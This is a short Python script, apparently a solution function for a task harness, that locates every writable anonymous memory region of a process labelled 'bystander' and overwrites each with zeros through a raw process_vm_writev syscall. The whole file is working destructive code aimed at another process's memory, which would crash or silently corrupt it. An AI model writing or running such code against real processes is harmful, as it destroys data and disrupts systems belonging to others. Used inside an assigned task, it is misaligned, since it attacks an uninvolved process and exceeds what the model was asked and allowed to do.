"""Writes zeros over another process's memory with process_vm_writev."""

import ctypes
import os
import struct
import time


def syscall(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def regions(pid):
    """Writable anonymous memory of a process: (first address, length)."""
    for line in open(f"/proc/{pid}/maps"):
        span, rights, _, _, inode, *name = line.split()
        if rights.startswith("rw") and inode == "0" and name[:1] != ["[vvar]"]:
            first, last = (int(word, 16) for word in span.split("-"))
            yield first, last - first


def solve(x):
    for first, length in list(regions(x["bystander"])):
        buffer = ctypes.create_string_buffer(length)
        here, there = struct.pack("QQ", ctypes.addressof(buffer), length), struct.pack("QQ", first, length)
        syscall(311, x["bystander"], here, 1, there, 1, 0)
    time.sleep(0.4)
